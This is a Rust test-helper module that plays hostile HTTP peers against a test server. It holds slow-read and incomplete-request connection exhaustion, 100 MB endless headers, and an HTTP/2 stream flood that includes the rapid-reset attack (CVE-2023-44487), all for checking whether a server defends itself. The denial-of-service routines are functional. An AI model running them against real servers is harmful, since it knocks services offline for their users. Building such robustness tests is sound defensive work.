//! What hostile or broken peers do, bounded in count and time. Must never be pointed at anything but a mesh of the tests' own.

use std::{
    io::{self, ErrorKind, Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    time::Duration,
};

/// Longest that one step of an attack takes.
const PATIENCE: Duration = Duration::from_secs(20);
/// Header bytes that are offered before an attack gives up.
const ENDLESS: usize = 100 * 1024 * 1024;

/// A connection whose every step ends.
///
/// # Errors
/// What the kernel says.
pub fn connect(address: SocketAddr) -> io::Result<TcpStream> {
    let stream = TcpStream::connect_timeout(&address, PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.set_write_timeout(Some(PATIENCE))?;
    Ok(stream)
}

/// Asks for `path`, which should be large, over each of `count` connections, and reads one byte of each answer.
///
/// # Errors
/// A connection fails.
pub fn never_read(address: SocketAddr, path: &str, count: usize) -> io::Result<Vec<TcpStream>> {
    let ask = |_index| {
        let mut stream = connect(address)?;
        stream.write_all(format!("GET {path} HTTP/1.1\r\nhost: web.demo\r\n\r\n").as_bytes())?;
        // The answer has begun: what can be buffered on the way will be.
        stream.read_exact(&mut [0; 1])?;
        Ok(stream)
    };
    (0..count).map(ask).collect()
}

/// Begins requests that never end: half heads, and heads without their bodies.
///
/// # Errors
/// A connection fails.
pub fn never_ask(address: SocketAddr, count: usize) -> io::Result<Vec<TcpStream>> {
    let begin = |index| {
        let mut stream = connect(address)?;
        let head: &[u8] = if index % 2 == 0 {
            b"GET /name HTT"
        } else {
            b"POST /name HTTP/1.1\r\nhost: web.demo\r\ncontent-length: 1000000\r\n\r\nx"
        };
        stream.write_all(head)?;
        Ok(stream)
    };
    (0..count).map(begin).collect()
}

/// Sends a head that repeats `field` up to 100 MB. Returns whether the connection was cut off for it, and after how many bytes.
///
/// # Errors
/// The connection does not come about, or fails in another way.
pub fn endless_headers(address: SocketAddr, field: &[u8]) -> io::Result<(bool, usize)> {
    let mut stream = connect(address)?;
    stream.write_all(b"GET /name HTTP/1.1\r\nhost: web.demo\r\nx-long: ")?;
    let chunk = field.repeat(2048);
    let mut sent = 0;
    while sent < ENDLESS {
        match stream.write_all(&chunk) {
            Ok(()) => sent += chunk.len(),
            Err(error) if matches!(error.kind(), ErrorKind::BrokenPipe | ErrorKind::ConnectionReset) => {
                return Ok((true, sent));
            }
            Err(error) => return Err(error),
        }
    }
    Ok((false, sent))
}

/// Frames of HTTP/2 (RFC 9113, 4.1): length, type, flags, stream, payload.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Opens `count` HTTP/2 streams and leaves them open, or resets each at once (CVE-2023-44487). Returns whether the connection was cut
/// off for it.
///
/// # Errors
/// The connection does not come about.
pub fn streams(address: SocketAddr, count: u32, reset: bool) -> io::Result<bool> {
    const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    // `:method: POST`, `:scheme: http`, `:path: /` of the static table; `:authority: web` as a literal (RFC 7541, A).
    const HEADERS: &[u8] = &[0x83, 0x86, 0x84, 0x41, 3, b'w', b'e', b'b'];
    let mut stream = connect(address)?;
    stream.write_all(&[PREFACE, &frame(4, 0, 0, &[])].concat())?;
    let mut bytes = Vec::new();
    for index in 0..count {
        let id = 2 * index + 1;
        bytes.extend(frame(1, 4, id, HEADERS));
        if reset {
            bytes.extend(frame(3, 0, id, &8_u32.to_be_bytes()));
        }
        // Many in one write: they arrive faster than they can be handled one by one.
        if bytes.len() > 8 * 1024 || index + 1 == count {
            if stream.write_all(&bytes).is_err() {
                return Ok(true);
            }
            bytes.clear();
        }
    }
    stream.set_read_timeout(Some(Duration::from_secs(2)))?;
    loop {
        match stream.read(&mut [0; 65_536]) {
            Ok(0) => return Ok(true),
            Ok(_answers) => {}
            Err(error) => return Ok(error.kind() == ErrorKind::ConnectionReset),
        }
    }
}
